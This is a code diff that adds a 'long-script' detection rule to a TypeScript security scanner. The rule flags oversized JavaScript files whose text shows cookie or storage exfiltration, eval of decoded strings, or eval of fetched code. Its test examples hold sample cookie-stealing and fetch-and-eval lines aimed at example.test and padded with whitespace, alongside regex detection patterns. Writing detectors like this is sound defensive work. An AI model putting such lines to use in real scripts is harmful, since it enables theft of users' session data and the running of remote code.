@@ -346,7 +346,60 @@ export const scrambledScript: TextRule = {
   },
 }
 
+/** In letters. Longer scripts are not followed, because that would take too long: their text is searched. */
+export const longestScript = 1_000_000
+
+export const longScript: TextRule = {
+  of: 'text',
+  id: 'long-script',
+  severity: 'high',
+  why: 'In a script that is too long to be followed, something may be hidden that sends data away or runs what it gets.',
+  fix: 'Split the script, and ship libraries as their makers publish them.',
+  appliesTo: /\.m?js$/i,
+  exampleName: 'x.js',
+  examples: {
+    matching: [
+      'fetch("https://example.test/?c=" + document.cookie)',
+      'eval(atob("YWxlcnQoMSk="))',
+      'fetch(u).then((r) => r.text()).then((t) => eval(t))',
+    ].map((line) => `${line}\n${' '.repeat(longestScript)}`),
+    harmless: [
+      'fetch("https://example.test/?c=" + document.cookie)',
+      `fetch("https://example.test/x.json")\n${' '.repeat(longestScript)}`,
+    ],
+  },
+  *find(text) {
+    if (text.length <= longestScript) return
+    for (const [pattern, what] of longScriptSigns) {
+      const { index } = pattern.exec(text) ?? {}
+      if (index === undefined) continue
+      const snippet = text.slice(index, index + 160)
+      yield { line: text.slice(0, index).split('\n').length, message: `A long script ${what}.`, snippet }
+    }
+  },
+}
+
+const longScriptSigns: [RegExp, string][] = [
+  [
+    /\b(fetch|sendBeacon|WebSocket|EventSource|open|src\s*=)[\s("'`A-Z,]{0,20}(https?|wss?):\/\/[^;\n]{0,300}\b(document\s*\.\s*cookie|localStorage|sessionStorage)\b/,
+    'sends cookies or storage away',
+  ],
+  [
+    /\b(eval|Function)\s*\(\s*(atob|unescape|String\s*\.\s*fromCharCode)\s*\(/,
+    'runs something that is decoded first',
+  ],
+  [
+    /\.then\(\s*(eval|Function)\b|\.then\(\s*\(?\s*[\w$]+\s*\)?\s*=>\s*(new\s+)?(\(\s*0\s*,\s*)?(eval|Function)\b|\b(eval|Function)\s*\(\s*await\b/,
+    'runs what comes from the network',
+  ],
+  [
+    /\bimport\s*\(\s*["'`]data:(text|application)\/javascript/,
+    'runs a script that is written into an address',
+  ],
+]
+
 export const textRules = [
+  longScript,
   bidirectional,
   confusableName,
   committedSecret,
